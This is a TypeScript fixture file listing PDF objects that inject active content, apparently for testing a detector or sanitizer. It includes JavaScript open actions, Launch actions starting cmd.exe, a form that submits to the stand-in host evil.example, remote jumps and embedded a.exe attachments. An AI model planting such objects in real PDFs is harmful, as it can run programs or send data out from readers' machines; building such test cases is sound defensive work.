// Everything in a PDF that acts by itself or carries another file, each as objects for an update of the small statement.

import type { PdfObject } from './pdf-writer.ts';

export interface ActiveContent {
  readonly name: string;
  /** A new catalog (1) or page (3), and objects from 5 on. No streams: these may be hidden in an object stream. */
  readonly objects: readonly PdfObject[];
}

const script = String.raw`<</S/JavaScript/JS(app.alert\(1\))>>`;

export const activeContents: readonly ActiveContent[] = [
  { name: 'JavaScript at opening', objects: [toCatalog('/OpenAction 5 0 R'), [5, script]] },
  {
    name: 'JavaScript by name',
    objects: [toCatalog('/Names<</JavaScript<</Names[(a)5 0 R]>>>>'), [5, script]],
  },
  {
    name: 'JavaScript in an annotation',
    objects: [toPage(`/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${script}>>]`)],
  },
  {
    name: 'JavaScript behind a jump',
    objects: [toCatalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>`), [5, script]],
  },
  {
    name: 'actions of the page',
    objects: [toPage('/AA<</O 5 0 R>>'), [5, '<</S/Named/N/Print>>']],
  },
  {
    name: 'actions of the document',
    objects: [toCatalog('/AA<</WC 5 0 R>>'), [5, '<</S/Named/N/Print>>']],
  },
  {
    name: 'a program started',
    objects: [toCatalog('/OpenAction 5 0 R'), [5, '<</S/Launch/F(cmd.exe)>>']],
  },
  {
    name: 'a program started by a click',
    objects: [
      toPage(
        '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/Win<</F(cmd.exe)>>>>>>]',
      ),
    ],
  },
  {
    name: 'an address opened',
    objects: [toCatalog('/OpenAction 5 0 R'), [5, '<</S/URI/URI(https://evil.example)>>']],
  },
  {
    name: 'an address opened after a jump',
    objects: [
      toCatalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>'),
    ],
  },
  {
    name: 'a form that sends itself',
    objects: [
      toPage(
        '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>]',
      ),
    ],
  },
  {
    name: 'data imported',
    objects: [
      toPage('/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/ImportData/F(a.fdf)>>>>]'),
    ],
  },
  {
    name: 'a jump into an attachment',
    objects: [toCatalog('/OpenAction<</S/GoToE/D[0/Fit]/T<</R/C/N(a.pdf)>>>>')],
  },
  {
    name: 'a jump to another file',
    objects: [toCatalog('/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>')],
  },
  {
    name: 'an attachment by name',
    objects: [
      toCatalog('/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>'),
      [5, '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>'],
    ],
  },
  {
    name: 'an attachment as a note',
    objects: [
      toPage(
        '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)/EF<</F 4 0 R>>>>>>]',
      ),
    ],
  },
  {
    name: 'a portfolio',
    objects: [
      toCatalog('/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(a.pdf)5 0 R]>>>>'),
      [5, '<</Type/Filespec/F(a.pdf)/EF<</F 4 0 R>>>>'],
    ],
  },
  {
    name: 'rich media',
    objects: [
      toPage('/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]'),
    ],
  },
  { name: 'an XFA form', objects: [toCatalog('/AcroForm<</Fields[]/XFA 4 0 R>>')] },
  {
    name: 'a rendition',
    objects: [
      toPage(
        `/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>>>]`,
      ),
    ],
  },
];

function toCatalog(extra: string): PdfObject {
  return [1, `<</Type/Catalog/Pages 2 0 R${extra}>>`];
}

function toPage(extra: string): PdfObject {
  return [
    3,
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<<>>${extra}>>`,
  ];
}
